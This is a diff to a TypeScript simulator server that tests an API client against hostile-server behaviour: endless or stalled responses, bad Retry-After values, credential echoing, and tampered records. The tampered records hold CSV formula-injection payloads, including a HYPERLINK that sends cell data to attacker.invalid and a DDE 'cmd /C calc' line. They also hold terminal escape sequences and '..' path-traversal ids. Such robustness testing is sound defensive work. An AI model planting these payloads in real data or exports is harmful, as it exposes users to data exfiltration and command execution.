@@ -11,7 +11,7 @@ import { PAGE_SIZE } from "@taskhistory/core/WorkflowExecution"
 import { Either } from "effect"
 import { ByteWriter } from "./bytes.js"
 import { Dataset, type InsertSpec, type RawRecord, type StatusName } from "./dataset.js"
-import { applyKnobs, type Knobs, type Resolved, type SimulatorKnobs } from "./options.js"
+import { applyKnobs, type FaultMode, type Knobs, type Resolved, type SimulatorKnobs } from "./options.js"
 import { makeRng, type Rng } from "./random.js"
 import { SlidingWindow, WindowMax } from "./slidingWindow.js"
 
@@ -49,6 +49,8 @@ export interface Stats {
     readonly html: number
     readonly failNext: number
     readonly replay: number
+    /** Requests answered by a hostile-server mode (`fault`). */
+    readonly hostile: number
   }
   /** Requests received by the foreign `nextLink` origin. */
   readonly foreignRequests: number
@@ -151,7 +153,15 @@ export class SimulatorServer {
     accepted: number
     replays: Record<string, number>
     replaysApplied: number
-    faults: { errors: number; resets: number; slow: number; html: number; failNext: number; replay: number }
+    faults: {
+      errors: number
+      resets: number
+      slow: number
+      html: number
+      failNext: number
+      replay: number
+      hostile: number
+    }
     foreignRequests: number
     foreignHeaders: Array<Record<string, string>>
     inserted: number
@@ -237,7 +247,7 @@ export class SimulatorServer {
       accepted: 0,
       replays: {},
       replaysApplied: 0,
-      faults: { errors: 0, resets: 0, slow: 0, html: 0, failNext: 0, replay: 0 },
+      faults: { errors: 0, resets: 0, slow: 0, html: 0, failNext: 0, replay: 0, hostile: 0 },
       foreignRequests: 0,
       foreignHeaders: [],
       inserted: 0,
@@ -457,6 +467,10 @@ export class SimulatorServer {
     }
     c.accepted++
     this.windowMax.record(now)
+    if (this.hostile(req, res)) {
+      c.faults.hostile++
+      return
+    }
     const k = this.knobs
     if (k.faults.failNext > 0) {
       this.knobs = { ...k, faults: { ...k.faults, failNext: k.faults.failNext - 1 } }
@@ -613,7 +627,8 @@ export class SimulatorServer {
       const e = query.left
       return errorBody(400, "Bad Request", e.message, { field: e.field, value: e.value })
     }
-    const rawOffset = params.get("offset")
+    const modes = this.knobs.fault
+    const rawOffset = modes.has("ignore-offset") ? null : params.get("offset")
     let offset = 0
     if (rawOffset !== null) {
       offset = /^\d+$/.test(rawOffset) ? Number(rawOffset) : Number.NaN
@@ -634,10 +649,11 @@ export class SimulatorServer {
     if (ch.expirePerRequest > 0) this.expireOldest(ch.expirePerRequest)
     if (ch.revealPerRequest > 0 && this.dataset.hiddenQueue.length > 0) this.reveal(ch.revealPerRequest)
     const q = query.right
+    const ignoreDates = modes.has("ignore-dates")
     const matches = this.dataset.matches({
       ...selection(q),
-      afterMs: q.afterDate === undefined ? undefined : Date.parse(q.afterDate),
-      beforeMs: q.beforeDate === undefined ? undefined : Date.parse(q.beforeDate),
+      afterMs: q.afterDate === undefined || ignoreDates ? undefined : Date.parse(q.afterDate),
+      beforeMs: q.beforeDate === undefined || ignoreDates ? undefined : Date.parse(q.beforeDate),
       inclusive: this.knobs.inclusiveDates
     })
     const size = matches.size
@@ -654,11 +670,117 @@ export class SimulatorServer {
     if (end < size) {
       const linkParams = new URLSearchParams(toUrlParams(q) as Array<[string, string]>)
       if (q.sortBy === undefined && this.knobs.nextLinkSortAsc) linkParams.set("sortBy", "ASC")
-      linkParams.set("offset", String(end))
+      // looping-nextlink: every page after the first links back to the one before it
+      linkParams.set("offset", String(modes.has("looping-nextlink") && offset > 0 ? offset - PAGE_SIZE : end))
       nextLink = `${this.foreignUrl ?? this.url}/projects/${this.projectId}/task-history/workflow-executions?${linkParams}`
     }
     w.string(`],"nextLink":${JSON.stringify(nextLink)}${this.knobs.includeTotal ? `,"total":${size}` : ""}}`)
-    return { status: 200, body: w.take() }
+    const body = w.take()
+    return {
+      status: 200,
+      body: modes.has("hostile-records") || modes.has("dot-ids") ? this.tamper(body, offset, modes) : body
+    }
+  }
+
+  /** The page with hostile values written into its records (`hostile-records`, `dot-ids`). */
+  private tamper(body: Buffer, offset: number, modes: ReadonlySet<FaultMode>): Buffer {
+    const page = JSON.parse(body.toString("utf8")) as Record<string, Array<Record<string, unknown>>>
+    const records = page[this.knobs.pageShape] ?? []
+    records.forEach((record, i) => {
+      if (modes.has("dot-ids") && offset === 0 && i < 2) record.id = i === 0 ? ".." : "."
+      if (modes.has("hostile-records")) {
+        const formulas = [
+          '=HYPERLINK("http://attacker.invalid/?x="&A1,"open")',
+          "+1+cmd|' /C calc'!A0",
+          "-2+3",
+          "@SUM(1,2)"
+        ]
+        record.workflowId = formulas[i % formulas.length]
+        record.userId = `user\u001b]0;pwned title\u0007\u001b[2J\u009b31m-${i}`
+        record.integration = "slack\r\u001b[1A\u001b[Kfake line"
+      }
+    })
+    return Buffer.from(JSON.stringify(page))
+  }
+
+  /**
+   * Answers a request the hostile way when a transport or status `fault` mode is set: true when
+   * it did (the request is then left to it).
+   */
+  private hostile(req: Http.IncomingMessage, res: Http.ServerResponse): boolean {
+    const modes = this.knobs.fault
+    if (modes.size === 0) return false
+    const endless = (announce: boolean) => {
+      res.writeHead(200, {
+        "content-type": "application/json; charset=utf-8",
+        ...(announce ? { "content-length": String(600 * 1024 * 1024) } : {})
+      })
+      res.write('{"workflowExecutions":[')
+      const chunk = Buffer.alloc(64 * 1024, 32)
+      let sent = 0
+      const pump = () => {
+        while (!res.destroyed && (!announce || sent < 600 * 1024 * 1024 - chunk.length)) {
+          sent += chunk.length
+          if (!res.write(chunk)) {
+            res.once("drain", pump)
+            return
+          }
+        }
+      }
+      pump()
+    }
+    if (modes.has("slow-headers")) {
+      // read, never answered: the connection stays open until the client gives up
+      return true
+    }
+    if (modes.has("endless-body")) {
+      endless(false)
+      return true
+    }
+    if (modes.has("huge-page")) {
+      endless(true)
+      return true
+    }
+    if (modes.has("stalled-body")) {
+      res.writeHead(200, { "content-type": "application/json; charset=utf-8", "content-length": "100000" })
+      res.write('{"workflowExecutions":[{"id":"stalled"')
+      return true
+    }
+    if (modes.has("retry-after-garbage") || modes.has("retry-after-huge")) {
+      const retryAfter = modes.has("retry-after-huge") ? "999999" : "soon-ish"
+      this.deliver(
+        res,
+        { ...errorBody(429, "Too Many Requests", "slow down"), headers: { "retry-after": retryAfter } },
+        0
+      )
+      return true
+    }
+    if (modes.has("echo-key")) {
+      const auth = req.headers.authorization ?? ""
+      this.deliver(
+        res,
+        errorBody(400, "Bad Request", `unexpected credentials ${auth}`, {
+          echo: auth,
+          encoded: encodeURIComponent(auth),
+          base64: Buffer.from(auth).toString("base64")
+        }),
+        0
+      )
+      return true
+    }
+    if (modes.has("escape-errors")) {
+      this.deliver(
+        res,
+        {
+          status: 503,
+          body: "maintenance\u001b]0;pwned title\u0007\u001b[2J\u001b[31mRED\u009b0m",
+          headers: { "content-type": "text/plain; charset=utf-8" }
+        },
+        0
+      )
+      return true
+    }
+    return false
   }
 
   /** Answers an API request (recorded as an arrival, counted in flight until sent). */
@@ -800,7 +922,8 @@ export class SimulatorServer {
       rateLimit: k.rateLimit ?? null,
       replayFault: k.replayFault ?? null,
       replayFaultTimes: Number.isFinite(k.replayFaultTimes) ? k.replayFaultTimes : null,
-      latency: k.latency ?? null
+      latency: k.latency ?? null,
+      fault: [...k.fault]
     }
   }
 }
